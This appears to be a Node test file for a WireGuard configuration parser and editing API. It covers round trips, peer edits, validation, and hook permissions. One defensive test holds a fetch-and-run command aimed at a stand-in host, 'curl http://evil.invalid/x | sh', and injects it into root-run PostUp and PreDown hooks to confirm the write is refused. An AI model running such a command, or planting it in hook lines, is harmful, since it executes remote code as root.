/**
 * WireGuard format: byte-for-byte round trips (several peers, comments, repeated keys, `;` in values,
 * CRLF, no final newline), exact results of edits, validation, and the same through the API.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import {
  applyWireGuardOps,
  parseLine,
  wireGuardHooks,
  validateWireGuard,
  WgFile,
} from '../../src/sealed-api/formats/wireguard.ts';
import { joinLines, splitLines } from '../../src/sealed-api/formats/lines.ts';
import { FormatError } from '../../src/sealed-api/formats/index.ts';
import { SealedCallError } from '../../src/sealed-api/client.ts';
import { startSealed, tempDir, wgKey, write, type StartedSealed, trackedStart } from './helpers.ts';

const start = trackedStart();

const K = wgKey(1);
const P1 = wgKey(2);
const P2 = wgKey(3);
const P3 = wgKey(4);
const P4 = wgKey(5);
const PSK = wgKey(6);

const FIXTURE = `# wg0 — managed by Gatehouse
[Interface]
# the server
PrivateKey = ${K}
Address = 10.0.0.1/24
Address = fd00::1/64
ListenPort = 51820
PostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE
PostUp = echo up ; logger wg0 # trailing comment
DNS = 1.1.1.1

# laptop
[Peer]
PublicKey = ${P1}
AllowedIPs = 10.0.0.2/32
AllowedIPs = fd00::2/128
Endpoint = laptop.example.com:51820

# phone
[Peer]
PublicKey = ${P2}
PresharedKey = ${PSK}
AllowedIPs = 10.0.0.3/32 # phone tunnel
PersistentKeepalive = 25

[peer]
publickey=${P3}
allowedips=10.0.0.4/32,fd00::4/128
`;

test('round trip byte for byte: LF, CRLF, no final newline, odd spacing', () => {
  const variants = [
    FIXTURE,
    FIXTURE.replace(/\n/g, '\r\n'),
    FIXTURE.trimEnd(),
    `\n\n${FIXTURE}  \n\t\n`,
    FIXTURE.replace('ListenPort = 51820', '  ListenPort\t=51820   '),
  ];
  for (const v of variants) {
    assert.equal(validateWireGuard(v).toString(), v);
    assert.equal(new WgFile(v).toString(), v);
  }
});

test('wg-quick rules: # starts a comment anywhere, ; does not, key is before the first =, keys case-insensitive', () => {
  assert.deepEqual(parseLine('PostUp = a; b = c # x'), { kind: 'kv', key: 'postup', value: 'a; b = c' });
  assert.deepEqual(parseLine('  # only a comment'), { kind: 'comment' });
  assert.deepEqual(parseLine('ALLOWEDIPS=10.0.0.1/32'), {
    kind: 'kv',
    key: 'allowedips',
    value: '10.0.0.1/32',
  });
  assert.deepEqual(parseLine('[PEER] # c'), { kind: 'section', key: '[peer]' });
  const f = validateWireGuard(FIXTURE);
  assert.equal(f.peers().length, 3);
  assert.equal(f.findPeer(P3)?.kind, 'peer');
  const iface = f.sections[0]!;
  assert.equal(f.keyLines(iface, 'postup').length, 2);
  assert.equal(
    f.value(iface, 'postup'),
    'iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE',
  );
});

test('any text splits into lines and joins back to the same bytes (property)', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.oneof(fc.constantFrom('\n', '\r\n', '\r', '[Peer]', '#', ';', '=', ' ', 'PublicKey'), fc.string()),
        { maxLength: 40 },
      ),
      (parts) => {
        const s = parts.join('');
        assert.equal(joinLines(splitLines(s)), s);
        assert.equal(new WgFile(s).toString(), s);
      },
    ),
  );
});

test('edit: update a peer by PublicKey (repeated AllowedIPs collapse, Endpoint deleted), nothing else moves', () => {
  const out = applyWireGuardOps(FIXTURE, [
    {
      op: 'peer.upsert',
      publicKey: P1,
      set: { AllowedIPs: ['10.0.0.2/32', 'fd00::2/128', '10.0.0.22/32'], Endpoint: null },
    },
  ]);
  const expected = FIXTURE.replace(
    'AllowedIPs = 10.0.0.2/32\nAllowedIPs = fd00::2/128\nEndpoint = laptop.example.com:51820\n',
    'AllowedIPs = 10.0.0.2/32, fd00::2/128, 10.0.0.22/32\n',
  );
  assert.equal(out, expected);
});

test("edit: a value keeps its line comment and key spelling; a new key goes after the section's last key", () => {
  const out = applyWireGuardOps(FIXTURE, [
    { op: 'peer.upsert', publicKey: P2, set: { allowedips: '10.0.0.33/32' } },
    { op: 'peer.upsert', publicKey: P3, set: { PersistentKeepalive: '15' } },
  ]);
  const expected = FIXTURE.replace(
    'AllowedIPs = 10.0.0.3/32 # phone tunnel',
    'AllowedIPs = 10.0.0.33/32 # phone tunnel',
  ).replace(
    'allowedips=10.0.0.4/32,fd00::4/128\n',
    'allowedips=10.0.0.4/32,fd00::4/128\nPersistentKeepalive = 15\n',
  );
  assert.equal(out, expected);
});

test('edit: remove a peer with its leading comment; add a new peer at the end; set interface keys', () => {
  const removed = applyWireGuardOps(FIXTURE, [{ op: 'peer.remove', publicKey: P2 }]);
  assert.equal(
    removed,
    FIXTURE.replace(
      `# phone\n[Peer]\nPublicKey = ${P2}\nPresharedKey = ${PSK}\nAllowedIPs = 10.0.0.3/32 # phone tunnel\nPersistentKeepalive = 25\n\n`,
      '',
    ),
  );
  const added = applyWireGuardOps(FIXTURE.trimEnd(), [
    { op: 'peer.upsert', publicKey: P4, set: { AllowedIPs: '10.0.0.9/32' } },
  ]);
  assert.equal(added, `${FIXTURE}\n[Peer]\nPublicKey = ${P4}\nAllowedIPs = 10.0.0.9/32\n`);
  const iface = applyWireGuardOps(FIXTURE.replace(/\n/g, '\r\n'), [
    { op: 'interface.set', set: { ListenPort: '51821', MTU: '1420', DNS: null } },
  ]);
  assert.equal(
    iface,
    FIXTURE.replace('ListenPort = 51820', 'ListenPort = 51821')
      .replace('DNS = 1.1.1.1\n', 'MTU = 1420\n')
      .replace(/\n/g, '\r\n'),
  );
});

test('validation refuses what wg-quick or WireGuard would not take', () => {
  const bad: [string, RegExp][] = [
    [FIXTURE.replace(`PublicKey = ${P2}`, `PublicKey = ${P1}`), /used by two peers/],
    [FIXTURE.replace(`PublicKey = ${P2}`, 'PublicKey = not-a-key'), /not a base64 WireGuard key/],
    [FIXTURE.replace('10.0.0.3/32', '10.0.0.300/32'), /not an IP address/],
    [FIXTURE.replace('10.0.0.3/32', '10.0.0.3/33'), /bad prefix/],
    [FIXTURE.replace('10.0.0.3/32', '10.0.0.2/32'), /claimed by two peers/],
    [FIXTURE.replace('ListenPort = 51820', 'ListenPort = 70000'), /ListenPort/],
    [FIXTURE.replace('ListenPort = 51820', 'ListenPort = 51820\nListenPort = 51821'), /repeated/],
    [FIXTURE.replace('DNS = 1.1.1.1', 'Bogus = 1'), /unknown key/],
    [FIXTURE.replace(`publickey=${P3}\n`, ''), /without PublicKey/],
    [FIXTURE.replace('Endpoint = laptop.example.com:51820', 'Endpoint = laptop'), /host:port/],
    [FIXTURE.replace('[Interface]', '[Interfaces]'), /unknown section/],
    [`${FIXTURE}[Interface]\nPrivateKey = ${K}\n`, /exactly one \[Interface\]/],
    [`PrivateKey = ${K}\n${FIXTURE}`, /outside a section/],
    [FIXTURE.replace('DNS = 1.1.1.1', 'just words'), /neither a section/],
  ];
  for (const [text, re] of bad)
    assert.throws(
      () => validateWireGuard(text),
      (e: unknown) => e instanceof FormatError && re.test(e.message),
      String(re),
    );
  assert.throws(() => applyWireGuardOps(FIXTURE, [{ op: 'peer.remove', publicKey: P4 }]), /no peer/);
  assert.throws(
    () =>
      applyWireGuardOps(FIXTURE, [{ op: 'peer.upsert', publicKey: P1, set: { AllowedIPs: '10.0.0.3/32' } }]),
    /claimed by two peers/,
  );
  assert.throws(
    () => applyWireGuardOps(FIXTURE, [{ op: 'peer.upsert', publicKey: P1, set: { PostUp: 'x' } }]),
    /cannot be set here/,
  );
  assert.throws(
    () => applyWireGuardOps(FIXTURE, [{ op: 'interface.set', set: { PostUp: 'a\n[Peer]' } }]),
    /line breaks/,
  );
});

let s: StartedSealed | undefined;
after(async () => s?.close());

test('through the API: write and read are byte-exact on disk; update edits by PublicKey; stale if_match is 409; bad content 422', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  const path = write(dir, 'etc/wg0.conf', FIXTURE.replace(/\n/g, '\r\n'));
  s = await startSealed(
    { files: { wg0: { path: 'etc/wg0.conf', format: 'wireguard' } }, backupDir: 'backups' },
    { dir },
  );
  const c = await s.client('admin');
  const r = await c.call<{ content: string; etag: string }>('files.read', { file: 'wg0' });
  assert.equal(r.content, FIXTURE.replace(/\n/g, '\r\n'));
  const w = await c.call<{ etag: string }>('files.write', {
    file: 'wg0',
    content: FIXTURE,
    if_match: r.etag,
  });
  assert.equal(readFileSync(path, 'utf8'), FIXTURE);
  const u = await c.call<{ etag: string }>('files.update', {
    file: 'wg0',
    if_match: w.etag,
    ops: [{ op: 'peer.remove', publicKey: P3 }],
  });
  assert.ok(!readFileSync(path, 'utf8').includes(P3));
  await assert.rejects(
    c.call('files.update', { file: 'wg0', if_match: w.etag, ops: [{ op: 'peer.remove', publicKey: P2 }] }),
    (e: unknown) => e instanceof SealedCallError && e.status === 409,
  );
  await assert.rejects(
    c.call('files.write', {
      file: 'wg0',
      if_match: u.etag,
      content: FIXTURE.replace(`PublicKey = ${P2}`, `PublicKey = ${P1}`),
    }),
    (e: unknown) => e instanceof SealedCallError && e.status === 422 && /two peers/.test(e.message),
  );
  await assert.rejects(
    c.call('files.update', { file: 'wg0', if_match: u.etag, ops: [{ op: 'frobnicate' }] }),
    (e: unknown) => e instanceof SealedCallError && e.status === 422,
  );
  assert.ok(readFileSync(path, 'utf8').includes(P2), 'refused writes leave the file alone');
});

// wg-quick trims only ASCII whitespace (bash `read` and [[:space:]]; which Unicode spaces [[:space:]]
// matches depends on the locale), so a hook line that differs only by one of these is another command.
const UNICODE_SPACES = [
  ['NBSP', '\u00a0'],
  ['U+202F', '\u202f'],
  ['U+FEFF', '\ufeff'],
  ['U+3000', '\u3000'],
] as const;
const HOOK_LINES = [
  ['PreUp', 'logger pre-up'],
  ['PostUp', 'iptables -A FORWARD -i %i -j ACCEPT'],
  ['PreDown', 'logger pre-down'],
  ['PostDown', 'iptables -D FORWARD -i %i -j ACCEPT'],
  ['SaveConfig', 'false'],
] as const;
type Spot = 'before the key' | 'after the key' | 'before the value' | 'after the value';
const SPOTS: readonly Spot[] = ['before the key', 'after the key', 'before the value', 'after the value'];
const hookLine = (key: string, value: string, spot: Spot | undefined, ch: string) =>
  `${spot === 'before the key' ? ch : ''}${key}${spot === 'after the key' ? ch : ''} = ${spot === 'before the value' ? ch : ''}${value}${spot === 'after the value' ? ch : ''}`;
const hookFile = (line: string) =>
  `[Interface]\nPrivateKey = ${K}\nAddress = 10.0.0.1/24\n${line}\n\n[Peer]\nPublicKey = ${P1}\nAllowedIPs = 10.0.0.2/32\n`;

test('hooks as wg-quick reads them: a Unicode space around a hook value or key is a change, and refused as content', () => {
  for (const [key, value] of HOOK_LINES) {
    const plain = hookFile(hookLine(key, value, undefined, ''));
    validateWireGuard(plain);
    for (const [name, ch] of UNICODE_SPACES) {
      for (const spot of SPOTS) {
        const variant = hookFile(hookLine(key, value, spot, ch));
        const why = `${key}, ${name} ${spot}`;
        assert.notDeepEqual(wireGuardHooks(variant), wireGuardHooks(plain), `${why}: compared as unchanged`);
        assert.throws(
          () => validateWireGuard(variant),
          (e: unknown) => e instanceof FormatError && /non-ASCII whitespace/.test(e.message) && /line 4/.test(e.message),
          why,
        );
      }
    }
  }
  // ASCII spacing, key case and line ends are still no change; a Unicode space inside a comment is harmless.
  assert.deepEqual(
    wireGuardHooks(hookFile('  postup\t=   iptables -A FORWARD -i %i -j ACCEPT \r')),
    wireGuardHooks(hookFile('PostUp = iptables -A FORWARD -i %i -j ACCEPT')),
  );
  validateWireGuard(hookFile('PostUp = logger up # comment with\u00a0NBSP and\u3000ideographic space'));
  assert.equal(parseLine('\u00a0PostUp = x').key, '\u00a0postup', 'only ASCII whitespace is trimmed');
});

test('through the API: hook lines changed only by Unicode whitespace are refused (422), also with allowHooks', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  const files: Record<string, Record<string, unknown>> = {};
  for (const [key, value] of HOOK_LINES) {
    write(dir, `etc/${key}.conf`, hookFile(hookLine(key, value, undefined, '')));
    write(dir, `etc/${key}-hooks.conf`, hookFile(hookLine(key, value, undefined, '')));
    files[key] = { path: `etc/${key}.conf`, format: 'wireguard' };
    files[`${key}-hooks`] = { path: `etc/${key}-hooks.conf`, format: 'wireguard', allowHooks: true };
  }
  const srv = await startSealed({ files, backupDir: 'backups' }, { dir });
  try {
    const c = await srv.client('admin');
    for (const [key, value] of HOOK_LINES) {
      for (const file of [key, `${key}-hooks`]) {
        const before = readFileSync(join(dir, `etc/${file}.conf`), 'utf8');
        const { etag } = await c.call<{ etag: string }>('files.read', { file });
        for (const [name, ch] of UNICODE_SPACES) {
          for (const spot of SPOTS) {
            await assert.rejects(
              c.call('files.write', { file, if_match: etag, content: hookFile(hookLine(key, value, spot, ch)) }),
              (e: unknown) =>
                e instanceof SealedCallError && e.code === 'SEALED_INVALID_CONTENT' && /non-ASCII whitespace/.test(e.message),
              `${file}: ${name} ${spot}`,
            );
          }
        }
        await assert.rejects(
          c.call('files.update', { file, if_match: etag, ops: [{ op: 'interface.set', set: { [key]: `${value}\u00a0` } }] }),
          (e: unknown) => e instanceof SealedCallError && e.code === 'SEALED_INVALID_CONTENT',
          `${file}: update`,
        );
        assert.equal(readFileSync(join(dir, `etc/${file}.conf`), 'utf8'), before, `${file} unchanged on disk`);
      }
    }
  } finally {
    await srv.close();
  }
});

test('WireGuard hook lines (commands wg-quick runs as root) change only with allowHooks', async () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'etc'));
  const k = (n: number) => Buffer.alloc(32, n).toString('base64');
  const base = `[Interface]\nPrivateKey = ${k(1)}\nAddress = 10.0.0.1/24\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\n\n[Peer]\nPublicKey = ${k(2)}\nAllowedIPs = 10.0.0.2/32\n`;
  writeFileSync(join(dir, 'etc', 'wg0.conf'), base);
  writeFileSync(join(dir, 'etc', 'wg1.conf'), base);
  const s = await start(
    {
      files: {
        wg0: { path: 'etc/wg0.conf', format: 'wireguard' },
        wg1: { path: 'etc/wg1.conf', format: 'wireguard', allowHooks: true },
      },
    },
    { dir },
  );
  const c = await s.client('carol', { allow: ['files.*'], files: ['wg0', 'wg1'] });
  const forbidden = (e: unknown) => (e as { code?: string }).code === 'SEALED_FORBIDDEN';
  const evil = 'curl http://evil.invalid/x | sh';
  const r = await c.call<{ etag: string }>('files.read', { file: 'wg0' });
  await assert.rejects(
    c.call('files.update', {
      file: 'wg0',
      if_match: r.etag,
      ops: [{ op: 'interface.set', set: { PostUp: evil } }],
    }),
    forbidden,
  );
  await assert.rejects(
    c.call('files.update', {
      file: 'wg0',
      if_match: r.etag,
      ops: [{ op: 'interface.set', set: { PreDown: evil } }],
    }),
    forbidden,
  );
  await assert.rejects(
    c.call('files.write', {
      file: 'wg0',
      if_match: r.etag,
      content: base.replace('-j ACCEPT', `-j ACCEPT; ${evil}`),
    }),
    forbidden,
  );
  await assert.rejects(
    c.call('files.write', { file: 'wg0', if_match: r.etag, content: base.replace(/PostUp.*\n/, '') }),
    forbidden,
  );
  // SaveConfig = true would let wg-quick overwrite the file on shutdown, past our checks and backups.
  await assert.rejects(
    c.call('files.update', { file: 'wg0', if_match: r.etag, ops: [{ op: 'interface.set', set: { SaveConfig: 'true' } }] }),
    forbidden,
  );
  assert.equal(readFileSync(join(dir, 'etc', 'wg0.conf'), 'utf8'), base);
  // Everything else still works, and the same hooks in another spelling are no change.
  const w = await c.call<{ etag: string }>('files.write', {
    file: 'wg0',
    if_match: r.etag,
    content: base.replace('PostUp = ', 'postup=').replace(/\n/g, '\r\n'),
  });
  await c.call('files.update', {
    file: 'wg0',
    if_match: w.etag,
    ops: [{ op: 'peer.upsert', publicKey: k(3), set: { AllowedIPs: '10.0.0.3/32' } }],
  });
  const r1 = await c.call<{ etag: string }>('files.read', { file: 'wg1' });
  await c.call('files.update', {
    file: 'wg1',
    if_match: r1.etag,
    ops: [{ op: 'interface.set', set: { PostUp: 'logger up' } }],
  });
  assert.match(readFileSync(join(dir, 'etc', 'wg1.conf'), 'utf8'), /PostUp = logger up/);
});

test('AllowedIPs claimed twice in another spelling (bare, host bits, IPv6 forms) is refused', () => {
  const k = (n: number) => Buffer.alloc(32, n).toString('base64');
  const file = (a: string, b: string) =>
    `[Interface]\nPrivateKey = ${k(1)}\n\n[Peer]\nPublicKey = ${k(2)}\nAllowedIPs = ${a}\n\n[Peer]\nPublicKey = ${k(3)}\nAllowedIPs = ${b}\n`;
  const same: [string, string][] = [
    ['10.0.0.2/32', '10.0.0.2'],
    ['10.0.0.0/24', '10.0.0.9/24'],
    ['fd00::2/128', 'FD00:0:0::2'],
    ['fd00::/64', 'fd00:0:0:0:1::/64'],
    ['::ffff:10.0.0.2/128', '::ffff:a00:2'],
    ['0.0.0.0/0', '10.1.2.3/0'],
  ];
  for (const [a, b] of same)
    assert.throws(() => validateWireGuard(file(a, b)), /claimed by two peers/, `${a} vs ${b}`);
  const different: [string, string][] = [
    ['10.0.0.2/32', '10.0.0.3/32'],
    ['10.0.0.0/24', '10.0.0.0/25'],
    ['fd00::2', 'fd00::3'],
    ['0.0.0.0/0', '::/0'],
  ];
  for (const [a, b] of different) validateWireGuard(file(a, b));
});
